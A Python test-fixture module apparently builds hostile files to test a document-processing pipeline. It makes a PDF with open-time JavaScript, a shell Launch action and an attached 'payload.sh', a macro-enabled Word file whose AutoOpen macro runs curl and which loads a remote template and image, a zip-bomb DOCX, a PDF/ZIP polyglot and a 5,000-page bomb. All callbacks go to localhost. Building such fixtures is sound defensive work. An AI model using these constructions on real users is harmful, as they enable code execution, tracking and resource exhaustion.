"""Hostile documents made by the tests themselves (no shipped binaries)."""

from __future__ import annotations

import io
import zipfile

import pikepdf
from pikepdf import Array, Dictionary, Name, String

CANARY = "CANARY-7f3a9c-SECRET-WORDS"


def text_pdf(text: str = CANARY, pages: int = 1) -> bytes:
    """A PDF whose pages show `text` in a standard font (so text objects exist)."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1,
                                        BaseFont=Name.Helvetica))
    for number in range(pages):
        content = pikepdf.Stream(pdf, f"BT /F1 24 Tf 72 700 Td ({text} {number + 1}) Tj ET"
                                 .encode())
        pdf.pages.append(pikepdf.Page(Dictionary(
            Type=Name.Page, MediaBox=[0, 0, 612, 792], Contents=content,
            Resources=Dictionary(Font=Dictionary(F1=font)))))
    return _save(pdf)


def pdf_with_javascript_and_launch(port: int) -> bytes:
    """JavaScript on open, a launch action on the page, an embedded file, a URI action."""
    pdf = pikepdf.open(io.BytesIO(text_pdf()))
    script = pdf.make_indirect(Dictionary(
        S=Name.JavaScript, JS=String(f"app.launchURL('http://127.0.0.1:{port}/js');")))
    pdf.Root.OpenAction = script
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))
    launch = Dictionary(S=Name.Launch, F=String("/bin/sh"), Win=Dictionary(F=String("cmd.exe")))
    pdf.pages[0].obj.AA = Dictionary(O=launch)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 612, 792],
        A=Dictionary(S=Name.URI, URI=String(f"http://127.0.0.1:{port}/link"))))])
    pdf.attachments["payload.sh"] = pikepdf.AttachedFileSpec(pdf, b"#!/bin/sh\necho pwned\n")
    return _save(pdf)


def _save(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


OOXML = "application/vnd.openxmlformats-"
DOC_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Default Extension="rels" ContentType="' + OOXML
    + 'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    '<Override PartName="/word/settings.xml" ContentType="' + OOXML
    + 'officedocument.wordprocessingml.settings+xml"/></Types>')
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
    'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
    'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>')
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ' \
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


def _paragraphs(texts: list[str], page_breaks: bool = False) -> str:
    brk = '<w:r><w:br w:type="page"/></w:r>' if page_breaks else ""
    return "".join(f"<w:p><w:r><w:t>{t}</w:t></w:r>{brk}</w:p>" for t in texts)


def docx(texts: list[str], *, port: int | None = None, page_breaks: bool = False) -> bytes:
    """A Word document; with a port: a macro project, a remote template and a remote image."""
    body = _paragraphs(texts, page_breaks)
    doc_rels = ['<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/'
                'officeDocument/2006/relationships/settings" Target="settings.xml"/>']
    settings = f"<w:settings {W}/>"
    if port is not None:
        body += ('<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
                 '<v:imagedata r:id="rIdImg"/></v:shape></w:pict></w:r></w:p>'
                 f'<w:p><w:r><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://127.0.0.1:'
                 f'{port}/field.png&quot; \\d"/></w:r></w:p>')
        doc_rels += [
            '<Relationship Id="rIdImg" Type="http://schemas.openxmlformats.org/officeDocument/'
            f'2006/relationships/image" Target="http://127.0.0.1:{port}/image.png" '
            'TargetMode="External"/>',
            '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/'
            'relationships/vbaProject" Target="vbaProject.bin"/>']
        settings = f'<w:settings {W}><w:attachedTemplate r:id="rIdT"/></w:settings>'
    files = {
        "[Content_Types].xml": DOC_TYPES, "_rels/.rels": ROOT_RELS,
        "word/document.xml": f'<?xml version="1.0" encoding="UTF-8"?><w:document {W}>'
                             f"<w:body>{body}</w:body></w:document>",
        "word/_rels/document.xml.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(doc_rels) + "</Relationships>",
        "word/settings.xml": settings,
    }
    if port is not None:
        files["word/_rels/settings.xml.rels"] = (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            f'attachedTemplate" Target="http://127.0.0.1:{port}/template.dotm" '
            'TargetMode="External"/></Relationships>')
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in files.items():
            archive.writestr(name, text)
        if port is not None:
            archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
                             + b"Sub AutoOpen()\r\nShell \"curl http://127.0.0.1\"\r\nEnd Sub")
    return out.getvalue()


def zip_bomb_docx(megabytes: int = 300) -> bytes:
    """A DOCX of a few hundred KB whose document.xml inflates to `megabytes` MB."""
    head = f'<?xml version="1.0" encoding="UTF-8"?><w:document {W}><w:body>'.encode()
    unit = b"<w:p><w:r><w:t>AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA</w:t></w:r></w:p>" * 1000
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", DOC_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            member.write(head)
            for _ in range(megabytes * 1024 * 1024 // len(unit)):
                member.write(unit)
            member.write(b"</w:body></w:document>")
    return out.getvalue()


def pdf_zip_polyglot() -> bytes:
    """A valid PDF that is also a valid ZIP (an archive appended after %%EOF)."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("hidden.txt", "ZIP-SIDE-" + CANARY)
    return text_pdf() + archive.getvalue()


def many_pages_pdf(pages: int = 5000) -> bytes:
    """A small file with thousands of pages (one page object shared by reference)."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    page = pdf.Root.Pages.Kids[0]
    pdf.Root.Pages.Kids = Array([page] * pages)
    pdf.Root.Pages.Count = pages
    return _save(pdf)


def corrupted_pdf() -> bytes:
    """A PDF header followed by garbage, then cut short."""
    return text_pdf()[:40] + bytes(range(256)) * 4


def photo() -> bytes:
    """A small JPEG photo."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (320, 240), (30, 120, 200)).save(out, "JPEG")
    return out.getvalue()
